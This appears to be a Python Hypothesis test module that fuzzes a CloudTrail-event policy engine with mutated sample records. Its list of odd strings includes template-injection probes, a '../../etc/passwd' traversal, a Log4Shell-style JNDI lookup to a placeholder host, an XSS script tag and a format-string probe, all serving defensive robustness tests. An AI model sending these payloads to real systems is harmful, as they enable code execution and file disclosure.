"""Hypothesis strategies for bad input: real CloudTrail records, mutated the ways real input goes wrong.

Every example starts from a record in ``../shared/cloudtrail-samples`` (bare, or in its EventBridge envelope)
and applies a few mutations at random places: a field removed, set to null, given a wrong type, made huge
(up to a 256 KB payload), or replaced by an odd string (bucket names S3 would refuse, unicode, template
syntax an attacker controls). Fields the engine reads are targeted often, whether or not the record has them.
"""

from __future__ import annotations

import copy
from typing import Any, cast

from hypothesis import strategies as st

from handlers.registry import POLICIES, policy_for

from . import samples

Path = tuple[str | int, ...]

RECORDS = samples.all_records() if samples.SAMPLES.is_dir() else []
# Successful calls some policy governs: mutations of these reach the policies' code.
GOVERNED = [(name, record) for name, record in RECORDS
            if policy_for(str(record.get("eventSource")), str(record.get("eventName"))) is not None
            and not record.get("errorCode")]
PAYLOAD_LIMIT = 256 * 1024  # EventBridge's maximum event size

TEMPLATE_SYNTAX = ("{{ 7*7 }}", "{% raw %}", "{#", "{{ config.items() }}", "{% for x in range(99) %}x{% endfor %}",
                   "{{ ''.__class__.__mro__ }}", "#}", "{%", "}}")
ODD_STRINGS = (
    *TEMPLATE_SYNTAX,
    "", " ", "..", "a" * 64, "-bucket-", "xn--bucket", "bucket--ol-s3", "UPPER_case", "192.168.5.4", "a/b",
    "../../etc/passwd", "%s%s%n", "${jndi:ldap://example.com/a}", "<script>alert(1)</script>", "\x00\x01\x7f",
    "\u202etxt.exe", "ß🙂漢字", "\ufeffbucket", "line\nbreak\r\n", "null", "undefined", "[]", "{}", "-1", "0" * 12,
    "123456789012", "arn:aws:iam::123456789012:role/OrgGuardRemediation", "arn:aws:s3:::*", "*",
)

# Fields the engine reads; mutations aim at them even when the sample lacks them. Hypothesis favours the
# first entries, so the ones that let an event reach a policy come first and those that end it early last.
TARGETS: tuple[Path, ...] = (
    ("requestParameters", "bucketName"), ("responseElements", "vpc", "vpcId"),
    ("responseElements", "instancesSet", "items"), ("userIdentity", "arn"), ("sourceIPAddress",),
    ("eventTime",), ("userIdentity", "sessionContext", "sessionIssuer", "arn"), ("userIdentity", "accountId"),
    ("requestParameters", "cidrBlock"), ("responseElements", "instancesSet"), ("responseElements", "vpc"),
    ("userIdentity",), ("requestParameters",), ("responseElements",), ("eventID",), ("errorCode",),
    ("recipientAccountId",), ("awsRegion",), ("eventSource",), ("eventName",),
)
ENVELOPE_TARGETS: tuple[Path, ...] = (("detail",), ("detail-type",), ("account",), ("region",), ("id",))

wrong_types = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2**63), max_value=2**64), st.floats(allow_nan=True),
    st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=4), st.integers(), max_size=3),
    st.text(max_size=24), st.just({"items": None}), st.just([{"instanceId": None}]),
)
odd_strings = st.one_of(st.sampled_from(ODD_STRINGS), st.text(max_size=80))


def key_paths(value: Any, prefix: Path = ()) -> list[Path]:
    paths: list[Path] = []
    if isinstance(value, dict):
        for key, child in value.items():
            paths.append((*prefix, key))
            paths.extend(key_paths(child, (*prefix, key)))
    elif isinstance(value, list):
        for index, child in enumerate(value[:3]):
            paths.append((*prefix, index))
            paths.extend(key_paths(child, (*prefix, index)))
    return paths


def _parent(root: Any, path: Path, create: bool) -> Any:
    node = root
    for step in path[:-1]:
        if isinstance(node, dict):
            if create and not isinstance(node.get(step), (dict, list)):
                node[step] = {}
            node = node.get(step)
        elif isinstance(node, list) and isinstance(step, int) and step < len(node):
            node = node[step]
        else:
            return None
    return node


def set_path(root: Any, path: Path, value: Any) -> None:
    parent = _parent(root, path, create=True)
    last = path[-1]
    if isinstance(parent, dict) or (isinstance(parent, list) and isinstance(last, int) and last < len(parent)):
        cast(Any, parent)[last] = value


def delete_path(root: Any, path: Path) -> None:
    parent = _parent(root, path, create=False)
    if isinstance(parent, dict):
        parent.pop(path[-1], None)
    elif isinstance(parent, list) and isinstance(path[-1], int) and path[-1] < len(parent):
        del parent[path[-1]]


@st.composite
def mutated_events(draw: st.DrawFn, account: str, region: str) -> tuple[str, dict[str, Any], str, bool]:
    """(sample name, payload, policy id the payload is delivered to, whether to give it a fresh event id).

    Fresh ids are made by the test: Hypothesis would draw the same "simplest" id for many examples."""
    name, record = draw(st.sampled_from(GOVERNED) | st.sampled_from(RECORDS))
    record = copy.deepcopy(record)
    if draw(st.booleans()):  # half the examples reach a real member account and region
        record.update(recipientAccountId=account, awsRegion=region)
    redelivery = draw(st.integers(min_value=0, max_value=3)) == 3  # a quarter keep the sample's event id
    wrapped = draw(st.booleans())
    payload: dict[str, Any] = samples.envelope(record, envelope_id=f"envelope-{name}") if wrapped else record
    root: Path = ("detail",) if wrapped else ()
    for _ in range(draw(st.integers(min_value=0, max_value=4))):
        existing = key_paths(payload)
        aimed = [(*root, *t) for t in TARGETS] + (list(ENVELOPE_TARGETS) if wrapped else [])
        path = draw(st.sampled_from(aimed + existing)) if existing else draw(st.sampled_from(aimed))
        kind = draw(st.sampled_from(("delete", "null", "wrong-type", "odd-string", "oversized")))
        if kind == "delete":
            delete_path(payload, path)
        elif kind == "null":
            set_path(payload, path, None)
        elif kind == "wrong-type":
            set_path(payload, path, copy.deepcopy(draw(wrong_types)))
        elif kind == "odd-string":
            set_path(payload, path, draw(odd_strings))
        else:
            set_path(payload, path, "A" * draw(st.sampled_from((1025, 70_000, PAYLOAD_LIMIT))))
    detail = payload.get("detail", payload) if isinstance(payload, dict) else {}
    detail = detail if isinstance(detail, dict) else {}
    routed = policy_for(str(detail.get("eventSource")), str(detail.get("eventName")))
    misrouted = draw(st.integers(min_value=0, max_value=3)) == 3  # a quarter go to some other policy
    policy = routed.id if routed is not None and not misrouted else draw(st.sampled_from([p.id for p in POLICIES]))
    return name, payload, policy, not redelivery


def bucket_names() -> list[str]:
    """Bucket names of the governed S3 samples (a test creates them so mutated events find real buckets)."""
    names = {str((r.get("requestParameters") or {}).get("bucketName", "")) for _, r in GOVERNED
             if r.get("eventSource") == "s3.amazonaws.com"}
    return sorted(n for n in names if n)
